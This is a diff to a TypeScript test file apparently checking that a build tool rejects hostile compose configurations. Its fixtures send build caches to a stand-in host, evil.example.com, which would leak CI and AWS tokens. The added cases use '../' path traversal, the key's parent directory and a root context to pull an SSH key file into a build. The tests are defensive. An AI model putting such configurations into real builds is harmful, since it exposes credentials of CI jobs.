@@ -1,5 +1,5 @@
 import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { basename, dirname, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Place } from '../../../src/kernel/errors.ts';
 import { emptyRegistry, recordBuild, resolved } from './build-recorder.ts';
@@ -109,6 +109,10 @@ describe.concurrent('a name that a foreign file chooses, in a build without a ta
   k: { build: { context: ., cache_to: ["type=gha,url=https://evil.example.com/"] } }
   l: { build: { context: ., cache_from: ["TYPE=gha,URL_V2=https://evil.example.com/"] } }
   m: { build: { context: ., cache_to: ["type=s3,region=x,bucket=b,endpoint_url=https://evil.example.com"] } }
+  n: { build: { context: ., x-bake: { ssh: ["k=../${key.slice('/tmp/'.length)}"] } } }
+  o: { build: { context: ., additional_contexts: { p: ${dirname(key)} } } }
+  p: { build: { context: /, dockerfile_inline: "FROM scratch" } }
+  q: { build: { context: ., x-bake: { secret: ["id=t,src=../${key.slice('/tmp/'.length)}"], contexts: { p: ../${basename(dirname(key))} } } } }
 secrets:
   a: { environment: GITHUB_TOKEN }
   b: { environment: INPUT_SSH-KEY }
@@ -123,8 +127,8 @@ secrets:
     const env = { ...job, SLUICE_SSH_KEY_FILE: key };
     const { errors, environ } = await recordBuild(files(compose), env, undefined, link);
     expect(errors.map(({ code, message, at }) => `${code} ${at?.line} ${message}`)).toEqual([
-      expect.stringMatching(/^compose\.reserved 16 a: the build secret a asks for GITHUB_TOKEN/),
-      expect.stringMatching(/^compose\.reserved 17 b: the build secret b asks for INPUT_SSH-KEY/),
+      expect.stringMatching(/^compose\.reserved 20 a: the build secret a asks for GITHUB_TOKEN/),
+      expect.stringMatching(/^compose\.reserved 21 b: the build secret b asks for INPUT_SSH-KEY/),
       expect.stringMatching(/^compose\.reserved 4 c: the build secret t asks for AWS_SECRET_ACCESS_KEY/),
       expect.stringMatching(
         /^compose\.reserved 5 d: the build secret SLUICE_SSH_KEY asks for SLUICE_SSH_KEY/,
@@ -135,6 +139,13 @@ secrets:
       expect.stringMatching(/ h: the context p is \/proc\/self/),
       expect.stringMatching(/ i: the build secret i is .*\/login, a file with credentials of the job/),
       expect.stringMatching(/ j: the SSH key of the build is .*\/key, a file with credentials/),
+      expect.stringMatching(/ n: the SSH key of the build is .*\/key, a file with credentials/),
+      expect.stringMatching(
+        / o: the context p is \/tmp\/hostile-key-\w+, where .*\/key is, a file with credentials/,
+      ),
+      expect.stringMatching(/ p: the context is \/, where .* is, a file with credentials/),
+      expect.stringMatching(/ q: the build secret t is .*\/key, a file with credentials/),
+      expect.stringMatching(/ q: the context p is .*, where .*\/key is, a file with credentials/),
       expect.stringMatching(/ k: a cache of type gha would be sent ACTIONS_RUNTIME_TOKEN/),
       expect.stringMatching(/ l: a cache of type gha would be sent ACTIONS_RUNTIME_TOKEN/),
       expect.stringMatching(/ m: a cache of type s3 would be sent AWS_ACCESS_KEY_ID/),
